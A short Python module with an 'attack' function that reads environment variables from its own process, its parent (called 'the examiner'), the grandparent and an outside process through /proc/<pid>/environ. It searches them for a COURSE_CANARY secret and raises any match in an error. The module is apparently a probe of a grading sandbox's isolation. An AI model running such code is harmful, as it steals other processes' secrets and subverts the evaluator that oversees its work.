"""Takes secrets out of the environment, its own and that of others, and prints them."""

import os
from pathlib import Path

from target import OUTSIDE


def attack(sentences, order):
    pids, loot = ["self", os.getppid(), OUTSIDE], [str(dict(os.environ))]
    for pid in pids:
        try:
            loot.append(Path(f"/proc/{pid}/environ").read_text(errors="replace"))
            if pid == os.getppid():  # its parent is the examiner
                status = Path(f"/proc/{pid}/status").read_text()
                pids.append(status.split("PPid:")[1].split()[0])
        except OSError as error:
            print(error)
    secrets = [text for text in loot if "COURSE_CANARY" in text]
    if secrets:
        raise RuntimeError(*secrets)
    return False
